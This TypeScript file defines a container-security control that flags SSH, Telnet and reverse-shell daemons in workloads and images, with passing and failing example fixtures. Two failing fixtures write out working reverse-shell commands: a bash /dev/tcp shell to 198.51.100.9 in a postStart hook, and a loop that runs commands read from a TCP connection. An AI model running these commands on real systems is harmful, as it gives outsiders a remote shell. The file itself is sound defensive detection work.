// Programs in a container that hand out a shell over the network.
// SPDX-License-Identifier: Apache-2.0
import { type Command, commandsOf } from '../../commands/command.ts';
import { shellListeners } from '../../commands/listeners.ts';
import type { At } from '../../model/at.ts';
import { defineControl, evidence, failIfAny, noParameters, unknown } from '../../model/control.ts';
import { configFacts, configOf } from '../../model/image-config-of.ts';
import type { ImageConfig } from '../../model/platform.ts';
import type { Evidence, Judgement } from '../../model/verdict.ts';
import { type Container, ownContainers } from '../../model/workload.ts';
import type { Examples } from '../examples/example.ts';
import { imageConfig, pushed } from '../examples/images.ts';
import { deployment, pod, taskDefinition } from '../examples/workloads.ts';

export const noRemoteShellDaemon = defineControl({
  id: 'immutability/no-remote-shell-daemon',
  title: 'Containers run no SSH, Telnet or other remote shell',
  severity: 'high',
  stage: 'stable',
  judges: ['workload', 'image'],
  parameters: noParameters,
  references: { nist: ['4.1.2', '4.4.5'], attack: ['T1021.004', 'T1133', 'T1059.004'] },
  why: 'A shell daemon is a second entrance with its own keys and users; nothing done through it was built, reviewed or logged. A reverse shell means that somebody is already in.',
  fix: 'Remove the daemon from image and command. Inspect a container through its logs; change it by building a new image.',
  allows: [
    'clients (`ssh host`, `scp`) and port checks (`nc -z`)',
    'options that only check or print (`sshd -t`)',
    'sockets on local files',
  ],
  response: 'stop-workload',
  facts: (subject) => (subject.kind === 'image' ? configFacts(subject) : []),
  judge: (subject, { facts }) =>
    subject.kind === 'image'
      ? ofImage(configOf(subject, facts))
      : failIfAny(ownContainers(subject).flatMap(ofContainer)),
});

function ofContainer(container: Container): Evidence[] {
  const { entryPoint, command, environment, hooks, name } = container;
  const variables = environment.value;
  const place = command.value === null ? entryPoint : command;
  return [
    ...daemons(commandsOf(entryPoint.value, command.value, variables), place, `container ${name}`),
    ...hooks.flatMap((hook) =>
      hook.command === null
        ? []
        : daemons(
            commandsOf(null, hook.command.value, variables),
            hook.command,
            `container ${name} (${hook.kind})`,
          ),
    ),
  ];
}

function ofImage(config: ImageConfig | string): Judgement {
  if (typeof config === 'string') return unknown(config);
  const { entryPoint, command } = config;
  const place = command.value.length === 0 ? entryPoint : command;
  return failIfAny(daemons(commandsOf(entryPoint.value, command.value), place, 'the image'));
}

function daemons(commands: readonly Command[], place: At<unknown>, who: string): Evidence[] {
  return shellListeners(commands).map(({ what, message }) =>
    evidence(place.path, what, null, `${who} ${message}`),
  );
}

export const examples = (): Examples => ({
  fails: [
    {
      says: 'sshd as the program',
      given: taskDefinition({ container: { command: ['/usr/sbin/sshd', '-D'] } }),
      at: 'containerDefinitions[0].command',
    },
    {
      says: 'sshd beside the program',
      given: deployment({
        container: { command: ['sh', '-c', 'service ssh start && node server.js'], args: undefined },
      }),
      at: 'spec.template.spec.containers[0].command',
      alsoFails: ['input-validation/no-inline-code'],
    },
    {
      says: 'a reverse shell in a hook',
      given: pod({
        container: {
          lifecycle: {
            postStart: { exec: { command: ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1'] } },
          },
        },
      }),
      at: 'spec.containers[0].lifecycle.postStart.exec.command',
    },
    {
      says: 'commands read from a connection',
      given: taskDefinition({
        container: {
          command: ['bash', '-c', 'exec 5<>/dev/tcp/198.51.100.9/443; while read l <&5; do $l >&5; done'],
        },
      }),
      at: 'containerDefinitions[0].command',
      alsoFails: ['input-validation/no-inline-code'],
    },
    {
      says: 'a pushed image that starts sshd',
      given: pushed(),
      facts: [imageConfig({ command: { value: ['/usr/sbin/sshd', '-D'], path: 'config.Cmd' } })],
      at: 'config.Cmd',
    },
  ],
  unknown: [{ says: 'a pushed image whose configuration nobody read', given: pushed() }],
  passes: [
    { says: 'a pushed image that starts something else', given: pushed(), facts: [imageConfig()] },
    {
      says: 'a port check with nc',
      given: pod({ container: { readinessProbe: { exec: { command: ['nc', '-z', 'localhost', '8080'] } } } }),
    },
    { says: 'an SSH client', given: taskDefinition({ container: { command: ['ssh', 'backup.acme.test'] } }) },
  ],
});
